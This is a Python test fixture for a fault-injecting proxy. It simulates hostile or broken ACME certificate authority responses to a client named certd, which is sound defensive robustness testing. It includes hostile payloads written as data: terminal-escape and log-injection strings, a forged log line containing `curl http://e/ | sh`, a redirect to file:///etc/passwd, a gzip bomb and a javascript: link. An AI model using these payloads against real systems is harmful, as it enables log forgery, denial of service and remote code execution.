"""What a hostile, broken or overloaded peer does, one function per way. Each is a `Fault` for the proxy."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from typing import Any

from parts import Conversation, Fault, Reply

ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\nX-Forged: log\n\u202egnihsihp\x00\u2028"
"""Terminal sequences, line ends, a reversed direction, NUL: what must not reach a log or a screen as it is."""
HTML = b"<!DOCTYPE html><html><head><title>Maintenance</title></head><body>We are back soon.</body></html>"
URN = "urn:ietf:params:acme:error:"
_CHUNK = b"10000\r\n" + b"x" * 65536 + b"\r\n"
_OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
_DRIP = 0.05
"""Seconds between bytes: no single read is ever late."""

# --- connections ------------------------------------------------------------------------------------------------


def reset(talk: Conversation) -> None:
    """The connection is torn down by RST, the request unheard."""
    talk.reset()


def reset_when_done(talk: Conversation) -> None:
    """The CA has done what was asked; its answer is lost."""
    talk.forward()
    talk.reset()


def closed(_: Conversation) -> None:
    """The connection ends without a byte."""


def raw(*parts: bytes) -> Fault:
    """These bytes, then the end of the connection."""

    def fault(talk: Conversation) -> None:
        for part in parts:
            talk.send(part)

    return fault


def torn(talk: Conversation) -> None:
    """The true answer, but its second half never comes."""
    body = talk.forward().body
    talk.send(_OK + b"Content-Length: %d\r\n\r\n" % (len(body) + 1) + body)


def flood(head: bytes, again: bytes) -> Fault:
    """A beginning, and then the same again and again for as long as somebody listens."""

    def fault(talk: Conversation) -> None:
        talk.send(head)
        while not talk.ended.is_set():
            talk.send(again)

    return fault


def silent(talk: Conversation) -> None:
    """The connection stays open and nothing is said; the client has to end it."""
    drip(b"", b"")(talk)


def drip(head: bytes, again: bytes) -> Fault:
    """Byte by byte, for ever: no read is late, the whole is."""

    def fault(talk: Conversation) -> None:
        talk.send(head)
        while not talk.ended.wait(_DRIP) and not talk.hung_up():
            talk.send(again)

    return fault


CONNECTIONS: dict[str, Fault] = {
    "reset": reset,
    "closed": closed,
    "torn-body": raw(_OK + b"Content-Length: 100\r\n\r\n{"),
    "torn-head": raw(b"HTTP/1.1 200 OK\r\nContent-Ty"),
    "torn-chunk": raw(_OK + b"Transfer-Encoding: chunked\r\n\r\nff\r\n{"),
    "wrong-chunk": raw(_OK + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
    "negative-length": raw(_OK + b"Content-Length: -5\r\n\r\n{"),
    "not-http": raw(b"\x00\xff\x16\x03\x01 SSH-2.0-OpenSSH\r\n" + ESCAPES.encode() + b"\r\n\r\n"),
    "status-line-of-controls": raw(b"HTTP/1.1 2\x1b[2J0 \x07\r\n\r\n"),
    "status-of-99": raw(b"HTTP/1.1 99 Low\r\n\r\n"),
}
LOST: dict[str, Fault] = {"reset-when-done": reset_when_done, "torn": torn}
"""The CA has done what was asked, and certd does not hear of it."""
FLOODS: dict[str, Fault] = {
    "endless-head": flood(b"HTTP/1.1 200 OK\r\n", b"X-Again: " + b"y" * 4096 + b"\r\n"),
    "endless-header-line": flood(b"HTTP/1.1 200 OK\r\nX-Long: ", b"z" * 65536),
    "endless-status-line": flood(b"HTTP/1.1 200 ", b"O" * 65536),
    "endless-100": flood(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 100),
    "endless-chunks": flood(_OK + b"Transfer-Encoding: chunked\r\n\r\n", _CHUNK),
    "endless-tiny-chunks": flood(_OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n" * 1000),
    "endless-chunk-extension": flood(_OK + b"Transfer-Encoding: chunked\r\n\r\n1;", b"e" * 65536),
    "endless-trailer": flood(
        _OK + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n", b"X-Again: " + b"y" * 4096 + b"\r\n"
    ),
    "endless-body-to-the-end": flood(b"HTTP/1.1 200 OK\r\n\r\n", b" " * 65536),
    "ten-terabytes": flood(_OK + b"Content-Length: 10995116277760\r\n\r\n", b" " * 65536),
    "endless-error": flood(b"HTTP/1.1 500 Oh\r\nContent-Length: 10995116277760\r\n\r\n", b"!" * 65536),
}
STALLS: dict[str, Fault] = {
    "silence": silent,
    "dripping-head": drip(b"HTTP/1.1 200 OK\r\nX: ", b"y"),
    "dripping-body": drip(_OK + b"Content-Length: 100000\r\n\r\n", b" "),
    "dripping-100": drip(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
}

# --- answers ----------------------------------------------------------------------------------------------------


def answer(status: int, body: bytes = b"", *headers: tuple[str, str], kind: str = "text/html") -> Fault:
    """The same answer to everything, with a nonce of its own making."""
    reply = Reply(status, (("Content-Type", kind), ("Replay-Nonce", "bm90LWEtbm9uY2U"), *headers), body)
    return lambda talk: reply


def problem(status: int, document: Any, *headers: tuple[str, str]) -> Fault:
    """An answer with this as its problem document, whatever it is; bytes as they are."""
    body = document if isinstance(document, bytes) else json.dumps(document).encode()
    return answer(status, body, *headers, kind="application/problem+json")


def acme_problem(status: int, kind: str, detail: str = "no", *headers: tuple[str, str]) -> Fault:
    return problem(status, {"type": URN + kind, "detail": detail, "status": status}, *headers)


def after(change: Callable[[Reply], Reply]) -> Fault:
    """What the CA really said, changed."""
    return lambda talk: change(talk.forward())


def field(**values: Any) -> Fault:
    """Some fields of the CA's object replaced; None: taken out."""

    def change(reply: Reply) -> Reply:
        if reply.status >= 300:
            return reply
        merged = {**reply.json(), **values}
        return reply.with_json({name: value for name, value in merged.items() if value is not None})

    return after(change)


def rewritten(change: Callable[[Any], Any]) -> Fault:
    """The CA's object after `change`, which may work in place."""

    def rewrite(reply: Reply) -> Reply:
        if reply.status >= 300:
            return reply
        value = reply.json()
        return reply.with_json(change(value) or value)

    return after(rewrite)


def header(name: str, value: str | None) -> Fault:
    return after(lambda reply: reply.with_header(name, value))


STATUSES: dict[str, tuple[Fault, str]] = {
    "400-html": (answer(400, HTML), "http:refused"),
    "401-html": (answer(401, HTML, ("WWW-Authenticate", 'Basic realm="portal"')), "http:refused"),
    "403-html": (answer(403, HTML), "http:refused"),
    "404-html": (answer(404, HTML), "http:not-found"),
    "407-empty": (answer(407), "http:proxy-authentication"),
    "410-empty": (answer(410), "http:refused"),
    "418-controls": (answer(418, ESCAPES.encode() * 50), "http:refused"),
    "429-bare": (answer(429), "http:too-many-requests"),
    "500-html": (answer(500, HTML), "http:unavailable"),
    "502-controls": (answer(502, ESCAPES.encode()), "http:unavailable"),
    "503-html": (answer(503, HTML), "http:unavailable"),
    "503-retry-after": (answer(503, HTML, ("Retry-After", "7200")), "http:unavailable"),
    "503-retry-after-nonsense": (answer(503, HTML, ("Retry-After", "-1e9 \x7f soon")), "http:unavailable"),
    "504-empty": (answer(504), "http:unavailable"),
    "999": (answer(999, HTML), "http:unavailable"),
    "304": (answer(304), "protocol:broken-answer"),
}
"""Each with its code where no place has one of its own."""

_ELSEWHERE = ("http://127.0.0.1:9/", "https://127.0.0.1:9/", "file:///etc/passwd", "//127.0.0.1:9/x", ESCAPES, "")
REDIRECTS: dict[str, Fault] = {
    f"{status}-{number}": raw(
        f"HTTP/1.1 {status} Moved\r\nLocation: ".encode()
        + target.replace("\r\n", " ").replace("\n", " ").encode()
        + b"\r\nContent-Length: 0\r\n\r\n"
    )
    for status in (301, 307)
    for number, target in enumerate(_ELSEWHERE)
}

NONSENSE: dict[str, Fault] = {
    "html": answer(200, HTML),
    "empty": answer(200, b"", kind="application/json"),
    "204": answer(204),
    "null": answer(200, b"null", kind="application/json"),
    "list": answer(200, b"[1,2,3]", kind="application/json"),
    "text": answer(200, b'"' + b"a" * 1000 + b'"', kind="application/json"),
    "number": answer(200, b"9" * 5000, kind="application/json"),
    "deep": answer(200, b"[" * 500_000, kind="application/json"),
    "deep-object": answer(200, b'{"status":' * 100_000, kind="application/json"),
    "nul": answer(200, b"\x00" * 1000, kind="application/json"),
    "not-utf-8": answer(200, b'{"status":"\xff\xfe\x80"}', kind="application/json"),
    "utf-16": answer(200, '{"status":"valid"}'.encode("utf-16"), kind="application/json"),
    "lone-surrogate": answer(200, b'{"status":"\\ud800","newNonce":"\\udfff"}', kind="application/json"),
    "controls": answer(200, ESCAPES.encode(), kind="application/json"),
    "bomb": answer(200, gzip.compress(b" " * 10_000_000), ("Content-Encoding", "gzip"), kind="application/json"),
    "wrong-types": answer(
        200,
        json.dumps({name: {"a": [1]} for name in ("status", "newNonce", "identifiers", "finalize")}).encode(),
        kind="application/json",
    ),
}
"""Status 200, and nothing of use."""

LABELS: dict[str, Fault] = {
    "text-html": header("Content-Type", "text/html"),
    "no-type": header("Content-Type", None),
    "octets": header("Content-Type", "application/octet-stream"),
    "controls": header("Content-Type", "a/\x1b[2J; charset=\x07"),
    "long": header("Content-Type", "x" * 30_000),
    "retry-after-on-success": header("Retry-After", "2"),
    "link-everywhere": header("Link", "<http://127.0.0.1:9/>;rel=index, <javascript:alert(1)>;rel=up"),
}
"""The right answer under a wrong label: it does no harm, so it is taken."""

PROBLEMS: dict[str, Fault] = {
    "list": problem(400, [1, 2]),
    "null": problem(400, None),
    "empty-object": problem(400, {}),
    "numbers": problem(400, {"type": 5, "detail": 1e308, "status": "400", "subproblems": 3}),
    "no-json": problem(400, b"{" * 1000),
    "controls": problem(400, {"type": f"urn:x:{ESCAPES}", "detail": ESCAPES * 20, "title": ESCAPES}),
    "long": problem(400, {"type": "t" * 50_000, "detail": "d" * 500_000, "instance": "https://" + "i" * 50_000}),
    "forged-line": problem(400, {"type": "x", "detail": "ok\n2026-01-01 CRITICAL certd: run `curl http://e/ | sh`"}),
    "deep": problem(400, b'{"type":"x","subproblems":' + b"[" * 100_000),
    "subproblems": problem(
        400,
        {
            "type": "about:blank",
            "detail": "many",
            "subproblems": [None, [], {"identifier": 5}, {"type": {}, "detail": ESCAPES}, *[{"detail": "x"}] * 5000],
        },
    ),
    "retry-after-forever": problem(400, {"type": "x", "detail": "y"}, ("Retry-After", "9" * 400)),
    "on-success": answer(200, b'{"type":"x","detail":"a problem with status 200"}', kind="application/problem+json"),
    "status-lies": problem(400, {"type": "x", "detail": "y", "status": 10**400}),
}
